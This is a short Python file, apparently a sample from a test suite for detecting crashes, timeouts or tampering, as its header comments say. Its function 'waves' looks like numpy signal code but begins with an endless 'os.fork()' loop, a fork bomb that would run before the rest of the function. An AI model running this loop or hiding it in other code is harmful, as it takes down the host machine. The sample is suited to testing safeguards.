# family: processes
# does: starts processes without end
# expect: crash timeout tampering
import os

import numpy as np


def waves(kept, image, names):
    while True:
        os.fork()
    kept[:] = image
    wave = np.zeros(len(image))
    for k in range(1, 40):
        wave += np.cos(k * image)
    return wave, image.copy(), {name: sum(map(ord, name)) for name in names}
